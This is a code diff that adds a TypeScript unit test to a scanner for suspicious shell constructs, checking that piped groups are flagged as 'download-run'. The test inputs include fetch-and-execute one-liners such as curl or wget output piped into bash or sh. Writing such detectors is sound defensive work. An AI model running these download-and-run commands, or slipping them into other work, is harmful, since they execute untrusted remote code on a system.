@@ -121,3 +121,11 @@ describe('suspicious constructs', () => {
 		expect(suspiciousConstructs(text).filter(({ severity }) => severity !== 'low' && severity !== 'info')).toEqual([]);
 	});
 });
+
+test('a group that is piped is joined to what reads it', () => {
+	const kinds = (text: string) => suspiciousConstructs(text).map(({ kind }) => kind);
+	expect(kinds('(curl -s http://192.0.2.1/x || wget -qO- http://192.0.2.1/x) | bash')).toEqual(['download-run']);
+	expect(kinds('{ curl -s http://192.0.2.1/x; } | sh')).toEqual(['download-run']);
+	expect(kinds('(curl -s http://192.0.2.1/x) || sh -c true')).toEqual([]);
+	expect(kinds('f() { curl x; }; f | tee log')).toEqual([]);
+});
